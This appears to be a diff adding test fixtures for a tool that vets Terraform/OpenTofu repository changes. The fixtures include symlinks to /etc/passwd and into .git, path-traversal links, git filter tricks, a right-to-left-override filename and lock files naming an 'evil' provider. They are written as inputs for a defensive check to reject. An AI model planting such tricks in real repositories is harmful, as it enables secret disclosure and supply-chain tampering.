+    "CLI configuration": Change("cli-config", {".terraformrc": "provider_installation {}\n"}),
+    "CLI configuration of OpenTofu": Change("cli-config", {"+.tofurc": ""}),
+    "modules that are there already": Change("cli-config", {"+.terraform/modules/modules.json": "{}"}),
+    "data of infra": Change("cli-config", {".infra/data/x": ""}),
+    "filter": Change("git-conversion", {".gitattributes": "*.tf filter=x\n"}),
+    "encoding": Change("git-conversion", {".gitattributes": "*.tf working-tree-encoding=UTF-16\n"}),
+    "ident": Change("git-conversion", {"infra/.gitattributes": "* ident\n"}),
+    "filter by a macro": Change("git-conversion", {".gitattributes": "[attr]x filter=y\n*.tf x\n"}),
+    "pointer in place of code": Change("unreadable", {"+x.tf": POINTER}),
+    "pointer in place of variables": Change("unreadable", {"+x.tf": TFVARS, "+x.auto.tfvars": POINTER}),
+    "submodule": Change(
+        "submodule", {".gitmodules": '[submodule "m"]\n\tpath = m\n\turl = https://example.com/m\n'}
+    ),
+    "server of LFS": Change("lfs-config", {".lfsconfig": "[lfs]\n\turl = https://example.com\n"}),
+    "link out": Change("link", {"+x.tf": ""}, links={f"{STACK}/y.tf": "/etc/passwd"}),
+    "link to git": Change("link", {"+x.tf": ""}, links={f"{STACK}/y.tf": "../../../../.git/x"}),
+    "ring of links": Change("link", {"+x.tf": ""}, links={f"{STACK}/y": "z", f"{STACK}/z": "y"}),
+    "link of a folder out": Change("link", {"+x.tf": ""}, links={f"{STACK}/sub": "../../../../.."}),
+    "code behind a link": Change(
+        "data-source",
+        {"docs/x.txt": 'data "http" "x" {}\n'},
+        links={f"{STACK}/y.tf": "../../../../docs/x.txt"},
+    ),
+    "stack behind a link": Change(
+        "data-source",
+        {"lib/s/main.tf": 'terraform {\n  backend "gcs" {}\n}\ndata "http" "x" {}\n'},
+        links={"infra/envs/dev/s": "../../../lib/s"},
+    ),
+    "name that cannot be seen": Change("name", {"+a\u202e.tf": "# x\n"}),
+    "name of two lines": Change("name", {"+a\nb.tf": "# x\n"}),
+    "name in another case": Change("name", {"+Versions.tf": "# x\n"}),
+    "folder in another case": Change(
+        "name", {"+x.tf": CALL, "infra/Modules/m/main.tf": "", f"{MODULE}/main.tf": ""}
+    ),
+    "lock file of a provider that is not listed": Change(
+        "lock-file",
+        {"+.terraform.lock.hcl": 'provider "registry.terraform.io/evil/p" {\n  version = "1.0.0"\n}\n'},
+    ),
+    "lock file of another registry": Change(
+        "lock-file",
+        {"+.terraform.lock.hcl": 'provider "example.com/hashicorp/google" {\n  version = "1.0.0"\n}\n'},
+    ),
+}
